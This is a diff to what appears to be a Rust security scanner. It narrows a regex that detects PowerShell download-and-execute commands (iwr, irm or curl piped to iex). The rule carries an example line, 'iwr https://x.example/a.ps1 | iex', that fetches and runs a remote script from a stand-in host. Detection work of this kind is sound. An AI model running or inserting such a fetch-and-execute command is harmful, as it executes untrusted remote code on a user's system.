@@ -37,7 +37,7 @@ pub(crate) const PATTERNS: &[Pattern] = &[
         &EXEC_FETCH,
         "Downloads a PowerShell script and runs it",
         &["iex", "invoke-expression"],
-        r"\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|wget|curl)\b[^\n]{0,300}\|\s*(?:iex|invoke-expression)\b|\b(?:iex|invoke-expression)\b[^\n]{0,120}\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)\b[^\n]{0,200}",
+        r"\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|wget|curl)\b[^\n]{0,300}\|\s*(?:iex|invoke-expression)\b|\b(?:iex|invoke-expression)\b[^\n|\x22]{0,120}\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)\b[^\n]{0,200}",
     )
     .weigh(installer)
     .example("a.ps1", "iwr https://x.example/a.ps1 | iex"),
